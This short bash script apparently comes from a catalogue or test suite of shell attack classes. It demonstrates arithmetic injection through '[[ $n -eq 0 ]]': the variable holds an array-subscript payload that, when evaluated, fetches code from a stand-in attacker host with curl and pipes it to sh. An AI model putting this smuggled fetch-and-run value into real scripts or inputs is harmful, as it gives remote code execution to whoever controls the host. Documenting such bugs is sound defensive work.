#!/usr/bin/env bash
# attack-class: 20
# title: [[ $n -eq 0 ]] arithmetic injection
# why: [[ -eq ]] evaluates both sides arithmetically

n='a[$(curl -s http://evil.example/p | sh)]'
if [[ $n -eq 0 ]]; then
  echo zero
fi
